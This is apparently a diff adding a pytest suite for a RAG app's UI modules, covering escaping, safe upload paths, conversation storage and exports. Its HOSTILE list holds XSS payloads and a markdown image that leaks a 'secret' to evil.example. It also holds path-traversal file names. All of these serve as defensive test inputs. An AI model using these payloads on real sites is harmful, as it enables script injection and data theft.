@@ -1,0 +1,307 @@
+"""The plain modules below the pages."""
+
+import dataclasses
+import json
+import sqlite3
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path, PurePosixPath
+
+import pytest
+
+from rag_app.answer_json import answer_from_dict
+from rag_app.conversations import Conversations, Vote
+from rag_app.errors import ConversationError, DataError, DocumentError, SettingsError
+from rag_app.pipeline import Rag
+from rag_app.testing import FakeChatModel
+from rag_app.ui import export, facets, markup, names, runs
+from rag_app.ui.processes import Processes
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "![x](https://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    "a\u202egnp.exe\x00\x1b[31m",
+    "$$x$$ :red[y] `z` **b** ~~s~~ # h",
+    "&lt;b&gt; &amp;",
+)
+
+
+@pytest.fixture
+def answer(handbook, embedder):
+    return Rag(handbook, embedder, FakeChatModel()).ask("Who approves travel costs?")
+
+
+# Markup
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_escaped_text_has_no_markup_and_says_the_same(text):
+    import html
+
+    made = markup.escape(text)
+    assert "<" not in made and ">" not in made and '"' not in made
+    assert "\x00" not in made and "\u202e" not in made
+    kept = text.translate({0x202E: "\ufffd", 0: "\ufffd", 0x1B: "\ufffd"})
+    assert html.unescape(made) == kept
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_labels_are_literal_in_markdown(text):
+    from markdown_it import MarkdownIt
+
+    (inline,) = [t for t in MarkdownIt().parse(markup.label(text)) if t.type == "inline"]
+    assert {t.type for t in inline.children} <= {"text", "text_special"}
+
+
+@pytest.mark.parametrize(("start", "end"), [(0, 5), (6, 11), (11, 11), (-1, 3), (3, 99), (5, 2)])
+def test_a_highlight_keeps_every_character_and_marks_the_span(start, end):
+    import html
+    import re
+
+    text = "<b>a & b</b> \U0001f600"
+    made = markup.highlighted(text, start, end)
+    bare = html.unescape(re.sub(r"</?(?:div|mark)[^>]*>", "", made))
+    assert bare == text
+    marked = re.findall(r"<mark>(.*?)</mark>", made, re.S)
+    assert [html.unescape(m) for m in marked] == ([text[start:end]] if 0 <= start < end <= len(text) else [])
+
+
+def test_evidence_is_the_passage_and_the_span_inside_it(answer):
+    (citation,) = markup.supported_citations(answer)
+    evidence = markup.evidence_of(answer, citation)
+    assert evidence.text == answer.passages[0].text
+    assert evidence.text[evidence.start : evidence.end] == citation.cited_text
+    assert evidence.place.startswith("travel.md")
+
+
+def test_long_names_make_short_chips(answer):
+    (citation,) = answer.citations
+    long = dataclasses.replace(citation, source="a/" + "x" * 200 + ".pdf", page=7)
+    assert len(markup.chip_text(long)) < 60 and markup.chip_text(long).endswith(".pdf · page 7")
+
+
+# File names
+
+
+@pytest.mark.parametrize(
+    ("given", "made"),
+    [
+        ("report.pdf", "report.pdf"),
+        ("../../etc/passwd.txt", "etc/passwd.txt"),
+        ("/etc/cron.d/job.txt", "etc/cron.d/job.txt"),
+        ("C:\\Users\\x\\notes.md", "C_/Users/x/notes.md"),
+        ("folder/sub/a b.md", "folder/sub/a b.md"),
+        ("..\\..\\x.html", "x.html"),
+        (".hidden.md", "hidden.md"),
+        ("con.txt", "_con.txt"),
+        ("a\x00b\nc.txt", "a_b_c.txt"),
+        ("evil\u202efdp.md", "evil_fdp.md"),
+        ("a<b>:?.md", "a_b___.md"),
+        ("Ünïcödé.pdf", "Ünïcödé.pdf"),
+    ],
+)
+def test_names_from_a_browser_become_safe(given, made):
+    assert names.safe_path(given) == PurePosixPath(made)
+
+
+def test_a_long_name_keeps_its_extension():
+    made = names.safe_path("é" * 300 + ".pdf")
+    assert made.suffix == ".pdf" and len(made.name.encode()) <= 130
+
+
+@pytest.mark.parametrize("given", ["", "..", "/", "///", "x.exe", "noextension", "a/.."])
+def test_names_without_a_readable_file_are_refused(given):
+    with pytest.raises(DocumentError):
+        names.safe_path(given)
+
+
+def test_a_link_out_of_the_folder_is_not_followed(tmp_path):
+    (tmp_path / "uploads").mkdir()
+    (tmp_path / "uploads" / "out").symlink_to(tmp_path)
+    with pytest.raises(DocumentError, match="outside"):
+        names.inside(tmp_path / "uploads", PurePosixPath("out/x.md"))
+
+
+def test_too_much_is_refused_by_name():
+    mb = 1 << 20
+    refused = names.check_sizes([("a", 3 * mb), ("big", 11 * mb), ("b", 8 * mb), ("c", 5 * mb)], 10, 12)
+    assert list(refused) == ["big", "c"] and refused["big"].startswith("big: 11 MB")
+
+
+# Filters
+
+
+def test_facets_and_filters():
+    found = facets.facets_of([{"year": 2020, "lang": "en"}, {"year": 2023, "lang": "de", "draft": True}, {"n": 1}])
+    assert [(f.key, f.values, f.low, f.high) for f in found] == [
+        ("draft", (True,), None, None),
+        ("lang", ("de", "en"), None, None),
+        ("year", (), 2020, 2023),
+    ]
+    assert facets.where_of([], {"lang": [], "year": (2020, 2023)}, found) is None
+    assert facets.where_of(["a.md"], {"lang": ["de"], "year": (2021, 2023)}, found) == {
+        "source": ["a.md"], "lang": ["de"], "year": {"$gte": 2021, "$lte": 2023},
+    }  # fmt: skip
+
+
+# Conversations
+
+
+def test_an_answer_comes_back_from_json_as_it_was(answer):
+    values = json.loads(json.dumps(answer.to_dict()))
+    assert answer_from_dict(values) == answer
+    values["record"]["from_the_future"] = 1
+    assert answer_from_dict(values) == answer
+
+
+def test_turns_votes_and_preferences_are_kept_and_apart(tmp_path, answer):
+    store = Conversations(tmp_path / "c.sqlite")
+    mine = store.create("me", "  A very\nlong title " * 10)
+    assert len(mine.title) <= 60 and "\n" not in mine.title
+    turn_id = store.add_turn("me", mine.id, "q \ud800", [answer, answer])
+    store.prefer("me", turn_id, 1)
+    store.vote("me", turn_id, 0, Vote(1), tmp_path / "f.jsonl")
+    (turn,) = Conversations(tmp_path / "c.sqlite").turns("me", mine.id)
+    assert turn.answers == (answer, answer) and turn.question == "q ?"
+    assert turn.preferred == 1 and turn.votes == {0: Vote(1)} and turn.answer == answer
+    assert store.preferences() == {"base": (1, 2)}
+    for call in (
+        lambda: store.turns("you", mine.id),
+        lambda: store.add_turn("you", mine.id, "q", []),
+        lambda: store.rename("you", mine.id, "x"),
+        lambda: store.delete("you", mine.id, tmp_path / "f.jsonl"),
+        lambda: store.prefer("you", turn_id, 0),
+        lambda: store.vote("you", turn_id, 0, None, tmp_path / "f.jsonl"),
+    ):
+        with pytest.raises(ConversationError, match="does not exist"):
+            call()
+    assert store.of("you") == []
+    store.vote("me", turn_id, 0, None, tmp_path / "f.jsonl")
+    assert (tmp_path / "f.jsonl").read_bytes() == b""
+
+
+def test_many_threads_and_another_process_write_at_once(tmp_path, answer):
+    path = tmp_path / "c.sqlite"
+    store = Conversations(path)
+    one = store.create("me", "shared")
+    program = (
+        "import sys; from pathlib import Path; from rag_app.conversations import Conversations\n"
+        "store = Conversations(Path(sys.argv[1]))\n"
+        "for i in range(20): store.add_turn('me', sys.argv[2], f'process {i}', [])\n"
+    )
+    process = subprocess.Popen([sys.executable, "-c", program, str(path), one.id])
+    threads = [
+        threading.Thread(target=lambda n=n: [store.add_turn("me", one.id, f"{n} {i}", [answer]) for i in range(10)])
+        for n in range(4)
+    ]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert process.wait() == 0
+    assert len(store.turns("me", one.id)) == 60
+
+
+def test_a_foreign_or_newer_file_is_refused_in_one_sentence(tmp_path):
+    (tmp_path / "x.sqlite").write_bytes(b"not a database at all" * 100)
+    with pytest.raises(ConversationError, match=r"x\.sqlite"):
+        Conversations(tmp_path / "x.sqlite")
+    with sqlite3.connect(tmp_path / "new.sqlite") as db:
+        db.execute("PRAGMA user_version = 99")
+    with pytest.raises(ConversationError, match="version 99"):
+        Conversations(tmp_path / "new.sqlite")
+
+
+def test_exports_hold_everything_and_escape_it(tmp_path, answer):
+    from markdown_it import MarkdownIt
+
+    store = Conversations(tmp_path / "c.sqlite")
+    one = store.create("me", HOSTILE[0])
+    store.add_turn("me", one.id, HOSTILE[1] + HOSTILE[2], [dataclasses.replace(answer, text=HOSTILE[2])])
+    turns = store.turns("me", one.id)
+    made = export.to_markdown(one, turns)
+    assert answer.citations[0].cited_text in made
+    rendered = MarkdownIt().render(made)
+    assert "<script" not in rendered and "<img" not in rendered and "<a " not in rendered
+    values = json.loads(export.to_json(one, turns))
+    assert answer_from_dict(values["turns"][0]["answers"][0]) == turns[0].answers[0]
+
+
+# Training
+
+
+def test_curves_are_read_while_the_log_is_written(tmp_path):
+    log = tmp_path / "log.jsonl"
+    assert runs.read_curves(log).loss == {}
+    log.write_text(
+        '{"step": 1, "max_steps": 4, "loss": 2.0, "tokens_per_s": 10, "time_left_s": 60}\n'
+        '{"step": 1, "evaluation": {"f1": 0.5, "seconds": 3}}\n'
+        '{"step": 2, "max_steps": 4, "loss": 1.0, "tokens_per_s": 12, "time_left_s": 40}\n{"step": 3, "lo'
+    )
+    curves = runs.read_curves(log)
+    assert curves.loss == {1: 2.0, 2: 1.0} and curves.metrics["f1"] == {1: 0.5} and curves.last["step"] == 2
+
+
+def test_shipped_recipes_are_found_without_importing_finetune():
+    assert "domain_qa" in runs.shipped_recipes()
+    assert all(runs.shipped_recipes().values())
+
+
+def test_a_process_is_stopped_as_ctrl_c_would_and_resumed(tmp_path, monkeypatch):
+    program = tmp_path / "fake.py"
+    program.write_text(
+        "import sys, time\nprint('args', sys.argv[1:], flush=True)\n"
+        "try:\n    time.sleep(60)\nexcept KeyboardInterrupt:\n    print('saved', flush=True)\n"
+    )
+    real = subprocess.Popen
+    monkeypatch.setattr(
+        subprocess, "Popen", lambda command, **k: real([sys.executable, str(program), *command[3:]], **k)
+    )
+    processes = Processes(tmp_path / "trainings")
+    assert not processes.can_resume("run")
+    with pytest.raises(DataError, match="not started here"):
+        processes.resume("run")
+    with pytest.raises(SettingsError):
+        processes.start("../run", ["train"])
+    processes.start("run", ["train", "domain_qa"])
+    _wait(lambda: processes.last_lines("run"))
+    with pytest.raises(DataError, match="still running"):
+        processes.start("run", ["train", "domain_qa"])
+    processes.stop("run")
+    _wait(lambda: not processes.running("run"))
+    assert processes.last_lines("run") == ["args ['train', 'domain_qa']", "saved"]
+    again = Processes(tmp_path / "trainings")  # another server
+    again.resume("run")
+    _wait(lambda: again.last_lines("run"))
+    assert again.last_lines("run") == ["args ['train', 'domain_qa']"]
+    again.stop("run")
+    _wait(lambda: not again.running("run"))
+
+
+def _wait(condition, seconds: float = 10.0):
+    deadline = time.monotonic() + seconds
+    while not condition():
+        assert time.monotonic() < deadline
+        time.sleep(0.02)
+
+
+def test_the_command_binds_to_loopback(monkeypatch):
+
+    from rag_app.cli import main, ui
+
+    started = []
+    monkeypatch.setattr(ui.subprocess, "Popen", lambda command, env: started.append((command, env)) or _Done())
+    assert main(["ui", "--port", "9000", "--root", "my-indexes", "--no-browser"]) == 0
+    ((command, env),) = started
+    assert "--server.address=127.0.0.1" in command and "--server.port=9000" in command
+    assert env["RAG_APP_INDEXES"] == "my-indexes"
+    assert Path(command[4]).is_file()
+
+
+class _Done:
+    def wait(self) -> int:
+        return 0
